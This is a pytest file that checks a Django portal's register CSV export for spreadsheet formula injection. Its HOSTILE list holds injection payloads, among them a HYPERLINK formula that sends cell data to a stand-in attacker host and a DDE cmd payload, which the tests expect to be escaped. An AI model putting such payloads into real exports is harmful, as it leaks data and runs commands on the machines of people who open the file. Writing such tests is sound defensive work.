"""Finding: a name `=HYPERLINK(...)` went out unescaped in the register CSV, a formula in the
officer's spreadsheet."""

import csv
import io

import pytest
from django.urls import reverse

from dossiers.models import Dossier
from portal.exports import safe_cell

pytestmark = pytest.mark.django_db

HOSTILE = ['=HYPERLINK("https://evil.example/?d="&A1,"Bấm")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1"]


@pytest.mark.parametrize("name", HOSTILE)
def test_register_csv_escapes_formula_cells(client, filed, staff, name):
    snapshot = {**filed.applicant_snapshot, "full_name": name}
    Dossier.objects.filter(pk=filed.pk).update(applicant_snapshot=snapshot)
    client.force_login(staff.desk)
    body = client.get(reverse("dossiers:desk_register") + "?format=csv").content.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(body)))
    row = next(r for r in rows if r[0] == filed.code)
    assert row[2] == "'" + name  # shown as typed, never evaluated
    assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for r in rows for cell in r)


def test_plain_cells_are_left_alone():
    assert [safe_cell(v) for v in ["Nguyễn Văn An", "H99.01-261201-0001", 12, None, ""]] == [
        "Nguyễn Văn An",
        "H99.01-261201-0001",
        12,
        None,
        "",
    ]
